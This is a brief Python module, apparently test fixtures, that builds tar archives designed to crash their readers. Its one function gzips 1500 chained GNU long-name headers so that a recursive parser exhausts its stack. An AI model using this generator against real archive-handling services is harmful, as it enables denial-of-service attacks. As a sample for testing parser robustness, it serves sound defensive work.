"""Archives that are made to break their readers."""

import gzip
import tarfile


def nested_names() -> bytes:
    """A small bundle file in which each long name is followed by another: a reader that recurses runs out of stack."""
    name = tarfile.TarInfo("././@LongLink")
    name.type, name.size = tarfile.GNUTYPE_LONGNAME, 2
    one = name.tobuf(format=tarfile.GNU_FORMAT) + b"a\0".ljust(512, b"\0")
    return gzip.compress(one * 1500 + tarfile.TarInfo("a").tobuf() + bytes(1024))
